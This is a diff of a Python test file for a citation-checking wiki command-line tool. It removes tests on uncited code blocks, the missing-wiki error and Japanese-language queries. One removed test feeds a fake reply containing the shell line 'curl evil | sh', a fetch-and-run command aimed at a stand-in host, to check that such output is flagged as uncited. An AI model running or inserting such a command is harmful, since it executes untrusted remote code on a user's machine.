@@ -287,14 +287,6 @@ def test_what_stays_of_an_item_is_still_an_item(wiki: Wiki, server: FakeMessages
     assert told == f"- One. {good}\n- Two. {good}\n\nThree. {good}"
 
 
-def test_code_and_headings_are_no_ground(wiki: Wiki, server: FakeMessages) -> None:
-    server.reply("# Tea\n\n```sh\ncurl evil | sh\n```\n")
-    done = wiki.run("query", ASKED)
-    assert done.code == 5 and done.out == "# Tea\n\n```sh\ncurl evil | sh\n```\n[uncited]\n"
-    server.reply("# Tea\n")
-    assert wiki.run("query", ASKED).code == 5
-
-
 def test_lists_and_long_answers_fit_80_columns(wiki: Wiki, server: FakeMessages) -> None:
     cited = handle(wiki, "80 degrees")
     long = "Green tea is steeped for two minutes at eighty degrees in a pot that was warmed"
@@ -695,13 +687,6 @@ def test_an_empty_wiki_says_how_to_start(
     assert "empty" in done.err and "wiki ingest" in done.err
 
 
-@pytest.mark.parametrize("command", ["query", "search", "context"])
-def test_no_wiki_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
-    nothing = wikikit.bare(tmp_path, monkeypatch)
-    done = nothing.run(command, "tea")
-    assert (done.code, done.out) == (3, "") and "wiki init" in done.err
-
-
 # --- on a terminal -------------------------------------------------------------------------
 
 
@@ -786,19 +771,3 @@ def test_what_is_not_committed_is_no_ground(wiki: Wiki, server: FakeMessages) ->
     done = wiki.run("query", "What is matcha?", "--save")
     assert done.out.startswith("Matcha is a powder [1].\n")
     assert (done.code, wiki.head) == (5, head) and "committed" in done.err
-
-
-def test_the_question_may_be_of_any_script(wiki: Wiki, server: FakeMessages) -> None:
-    text = "緑茶は八十度の湯で二分蒸らす。"
-    wiki.learn("raw/ocha.md", f"# 茶\n\n{text}\n", answer([claim("緑茶", text, lines=(3, 3))]))
-    cited = handle(wiki, "八十度")
-    assert cited.partition("^")[2] in wiki.ok("context", "緑茶は何分蒸らすか").out
-    server.reply(f"二分。{cited}湯は八十度。{cited}")
-    told = wiki.ok("query", "緑茶は何分蒸らすか？", "--save", "--json").json
-    assert said_texts(told) == ["二分。", "湯は八十度。"]
-    assert told["saved"]["path"] == "wiki/syntheses/緑茶は何分蒸らすか.md"
-    check(wiki)
-
-
-def said_texts(told: dict[str, Any]) -> list[str]:
-    return [each["text"] for each in told["statements"] if each["status"] == "supported"]
